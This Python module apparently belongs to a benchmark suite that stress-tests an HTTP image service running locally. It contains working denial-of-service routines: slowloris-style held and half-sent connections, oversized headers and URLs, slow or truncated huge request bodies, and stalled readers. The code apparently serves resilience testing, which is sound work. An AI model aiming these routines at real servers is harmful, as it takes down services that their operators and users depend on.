"""Attacks that need nothing but connections: held, half-sent, too large, too slow, never read."""

import contextlib
import select
import socket
import time
from collections.abc import Callable
from itertools import chain

from bench.attacks.aim import Aim, held, together
from bench.attacks.scans import noisy_jpeg

CONNECTIONS = 1_100
WINDOW = 4_096
MB = 1_000_000
ESTABLISHED = b"\x01"


def idle(aim: Aim) -> Callable[[], None]:
    """1,100 connections on which nothing is sent, opened again when they are closed."""
    return lambda: _keep_many(aim, b"", b"")


def half_heads(aim: Aim) -> Callable[[], None]:
    """1,100 heads that never end, with a byte a second each."""
    return lambda: _keep_many(aim, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ", b"a")


def big_heads(aim: Aim) -> Callable[[], None]:
    """Two clients with a header of 50 MB, one with a million small ones, one with an address of 20 MB."""
    start = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    one = start + b"X-A: " + b"a" * 50 * MB + b"\r\n\r\n"
    many = start + b"".join(b"X-%d: y\r\n" % number for number in range(MB)) + b"\r\n"
    long = b"GET /" + b"a" * 20 * MB + start[12:] + b"\r\n"

    def send(whole: bytes) -> None:
        with aim.connect() as connection:
            connection.sendall(whole)
            connection.recv(64)

    return lambda: together(*(lambda whole=whole: send(whole) for whole in (one, one, many, long)))


def bodies(aim: Aim) -> Callable[[], None]:
    """20 bodies of 63 MB that stop after 62, 20 of a byte a second, and 4 sign-in forms of 10 GB with a file."""
    head = aim.head("POST", "/v2/images/estimate", "Content-Type: application/json")
    large = head + b"Content-Length: %d\r\n\r\n" % (63 * MB)
    kind = "Content-Type: multipart/form-data; boundary=b"
    form = aim.head("POST", "/studio/signin", kind, "Content-Length: 10000000000") + b"\r\n"
    form += b'--b\r\nContent-Disposition: form-data; name="key"; filename="a"\r\n\r\n'
    data = b" " * MB

    def send(head: bytes, megabytes: int, drip: bytes) -> None:
        with aim.connect() as connection:
            connection.sendall(head)
            for _ in range(megabytes):
                connection.sendall(data)
            held(connection, drip)

    kinds = chain([(large, 62, b"")] * 20, [(large, 0, b" ")] * 20, [(form, 50, b"")] * 4)
    works = [lambda kind=kind: send(*kind) for kind in kinds]
    return lambda: together(*works)


def stalled(aim: Aim) -> Callable[[], None]:
    """12 readers each of a converted copy, of an upload and of an archive who take nothing of it."""
    noisy = noisy_jpeg(aim.folder)

    def begin() -> None:
        uploads = [path for path in (aim.upload(noisy) for _ in range(4)) if path]
        images = [path for path in (*uploads[:1], aim.result()) if path]
        names = "&".join("name=" + path.rpartition("/")[2] for path in uploads or images)

        def stall(path: str) -> None:
            with aim.connect(WINDOW) as connection:
                connection.sendall(aim.head("GET", path) + b"\r\n")
                while True:  # what is in the window is left there; an end shows in the connection's state
                    select.select([], [], [], 2)
                    if connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) != ESTABLISHED:
                        return

        paths = [
            *(f"{path}?format={format}" for path in images for format in ("png", "webp")),
            *images,
            f"/v2/archive?{names}",
        ]
        together(*(lambda path=path: stall(path) for path in paths for _ in range(12)))

    return begin


def _keep_many(aim: Aim, first: bytes, drip: bytes) -> None:
    """So many connections at all times, each with `first`, and `drip` a second."""
    alive: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            while len(alive) < CONNECTIONS:
                connection = aim.connect()
                connection.sendall(first)
                connection.setblocking(False)
                alive.append(connection)
        time.sleep(1)
        alive = [connection for connection in alive if _lives(connection, drip)]


def _lives(connection: socket.socket, drip: bytes) -> bool:
    try:
        if drip:
            connection.send(drip)
        if connection.recv(4096):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    connection.close()
    return False
